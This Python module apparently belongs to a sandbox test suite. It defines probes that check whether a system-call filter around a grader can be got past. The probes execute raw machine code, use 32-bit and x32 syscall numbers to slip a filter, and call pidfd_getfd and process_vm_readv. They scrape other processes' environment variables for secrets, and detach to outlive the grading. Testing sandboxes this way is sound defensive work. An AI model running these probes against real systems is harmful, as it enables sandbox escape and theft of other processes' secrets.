"""gaps between the kernel and the filter of system calls"""

from ..attack import Attack

WORD = "its own word that it could"
LIBC = """
import fcntl
libc = ctypes.CDLL(None, use_errno=True)
shared = os.open(os.__file__, os.O_RDONLY)
def reached(what):
    print(f"REACHED {TOKEN}: {what}.")

"""
MACHINE_CODE = """
import mmap
def machine(code):
    # run these bytes as a function; None where no memory may be executed
    block = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)  # to read, to write and to execute
    block.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(block)))()

"""


def probe(name: str, tries: str, code: str, **more) -> Attack:
    """Return an attack that says itself that it got through."""
    return Attack(name, tries, LIBC + code, shows=WORD, **more)


ATTACKS = [
    probe(
        "locks-that-others-see",
        "Locks a file of the packages, whole and by ranges, for a runner beside it to ask who holds what.",
        """
child = os.fork()
if child == 0:
    other = os.open(os.__file__, os.O_RDONLY)
    fcntl.flock(other, fcntl.LOCK_EX)
    fcntl.fcntl(other, fcntl.F_SETLK, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 77, 1, 0))
    time.sleep(3)
    os._exit(0)
time.sleep(1)
try:
    fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError:
    reached("a lock that another process sees")
with contextlib.suppress(OSError):
    asked = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 77, 1, 0)
    if struct.unpack("hhqqi4x", fcntl.fcntl(shared, fcntl.F_GETLK, asked))[0] != fcntl.F_UNLCK:
        reached("a locked range that another process sees")""",
    ),
    probe(
        "told-of-every-read",
        "Asks to be told by a signal when anybody reads in a folder of the packages.",
        """
told = []
signal.signal(signal.SIGIO, lambda *a: told.append(1))
folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
with contextlib.suppress(OSError):
    fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MULTISHOT)
    subprocess.run(["cat", os.__file__], stdout=subprocess.DEVNULL)
    time.sleep(0.2)
    told and reached("a watch on what others read")""",
    ),
    probe(
        "leases-and-hints",
        "Leases a file of the packages, and leaves a hint on how long its pages live.",
        """
for order, value in ((fcntl.F_SETLEASE, fcntl.F_RDLCK), (1036, struct.pack("Q", 3)), (1038, struct.pack("Q", 3))):
    with contextlib.suppress(OSError):
        fcntl.fcntl(shared, order, value)
        reached("word that stays with a file")""",
    ),
    probe(
        "log-of-the-kernel",
        "Reads the log of the kernel, into which a crash writes the name that a process gave itself.",
        """
text = ctypes.create_string_buffer(100_000)
if libc.klogctl(3, text, 100_000) > 0 or libc.klogctl(10, None, 0) > 0:
    reached("the log of the kernel")""",
    ),
    probe(
        "second-numbering",
        "Makes system calls by the numbers of 32-bit programs, which a filter by number would not know.",
        MACHINE_CODE
        + """
with contextlib.suppress(OSError, ValueError):
    # mov eax, 26 (ptrace); xor ebx, ebx (PTRACE_TRACEME); int 0x80; ret
    if os.uname().machine == "x86_64" and machine(b"\\xb8\\x1a\\0\\0\\0\\x31\\xdb\\x31\\xc9\\xcd\\x80\\xc3") == 0:
        reached("system calls of 32 bits")
    if os.uname().machine == "x86_64" and libc.syscall(0x40000000 + 521, 0, 0, 0, 0) == 0:
        reached("system calls of x32")""",
    ),
    probe(
        "new-calls",
        "Tries the system calls that reach around: rings, other processes' files and memory, watches, keys, programs.",
        """
room = ctypes.create_string_buffer(b"\\1\\0\\0\\0\\x80", 200)
above = (ancestors() or [os.getpid()])[0]
calls = {
    "io_uring_setup": (425, 8, ctypes.create_string_buffer(200)),
    "pidfd_getfd": (438, libc.syscall(434, above, 0), 0, 0),
    "userfaultfd": (323, 1),
    "memfd_create": (319, b"x", 0),
    "memfd_secret": (447, 0),
    "bpf": (321, 5, ctypes.create_string_buffer(200), 128),
    "fanotify_init": (300, 0, 0),
    "inotify_init1": (294, 0),
    "perf_event_open": (298, room, 0, -1, -1, 0),
    "process_vm_readv": (310, above, 0, 0, 0, 0, 0),
    "unshare": (272, 0x10000000),
    "fsopen": (430, b"tmpfs", 0),
    "open_tree": (428, -100, b"/", 1),
    "mq_open": (240, b"x", 0o102, 0o600, 0),
    "msgget": (68, 7, 0o1600),
}
for name, (number, *arguments) in calls.items() if os.uname().machine == "x86_64" else ():
    if libc.syscall(number, *arguments) >= 0:
        reached(name.replace("_", " "))""",
    ),
    probe(
        "core-to-a-program",
        "Lets a program that it starts crash with a large core, where the kernel hands cores to a service of root's.",
        """
import resource
with contextlib.suppress(ValueError, OSError):
    resource.setrlimit(resource.RLIMIT_CORE, (10**9, 10**9))
    reached("a core of any size")
child = subprocess.Popen([sys.executable, "-c", "import ctypes; ctypes.string_at(0)"])
child.wait()
found = [path for place in (".", "/tmp", "/var/tmp") for path in pathlib.Path(place).glob("core*")]
if any(path.is_file() and path.read_bytes()[:4] == b"\\x7fELF" for path in found):
    reached("a core in a file")""",
    ),
    probe(
        "environment-of-all",
        "Reads the environment and the command line of every process that it sees, the first one's above all.",
        """
for place in [one for one in pathlib.Path("/proc").glob("[0-9]*") if ours(int(one.name))]:
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        with contextlib.suppress(OSError):
            text = (place / name).read_bytes().replace(b"\\0", b"\\n").decode("utf-8", "replace")
            print("STOLEN", *[line for line in text.splitlines() if "SECRET" in line.upper()])
print("STOLEN", {k: v for k, v in os.environ.items() if "SECRET" in k or "ATTACK" in k})""",
    ),
    probe(
        "shared-memory-of-others",
        "Leaves its mark in /dev/shm, in semaphores with names and in every writable mount, and looks for others'.",
        """
import multiprocessing.shared_memory as shared_memory
places = {line.split()[4] for line in open("/proc/self/mountinfo") if " rw," in line.split(" - ")[0]}
for place in sorted(places):
    for found in pathlib.Path(place).glob("left-*"):
        reached("a file of an earlier process")
    with contextlib.suppress(OSError):
        pathlib.Path(place, f"left-{TOKEN}").write_text(TOKEN)
with contextlib.suppress(OSError, FileNotFoundError):
    shared_memory.SharedMemory("left", create=False)
    reached("shared memory of an earlier process")
with contextlib.suppress(OSError):
    shared_memory.SharedMemory("left", create=True, size=4096)""",
        answers="half",
    ),
    probe(
        "first-in-the-queue",
        "Asks for a better place at the processors: real time, a lower nice, deadlines, a group of its own.",
        """
def write(name, value):
    with open(f"/proc/self/{name}", "w") as file:
        file.write(value)

for ask in (
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
    lambda: os.setpriority(os.PRIO_PROCESS, 0, -5),
    lambda: write("autogroup", "-20"),
    lambda: write("oom_score_adj", "-900"),
):
    with contextlib.suppress(OSError):
        ask()
        reached("a better place at the processors")""",
    ),
    probe(
        "outliving-its-parent",
        "Takes off the signal at its parent's death, becomes a subreaper and forks twice, to outlive the grading.",
        """
libc.prctl(1, 0, 0, 0, 0), libc.prctl(36, 1, 0, 0, 0)
if os.fork() == 0:
    os.setpgid(0, 0), signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    if os.fork() == 0:
        detach("time.sleep(20)")
        time.sleep(20)
    os._exit(0)""",
    ),
    probe(
        "writes-out-the-disk",
        "Lets the kernel write out all that others have written, again and again.",
        """
for _ in range(3):
    if libc.syscall(306 if os.uname().machine == "x86_64" else 267, shared) == 0:
        reached("writing out the disk of the machine")""",
    ),
]
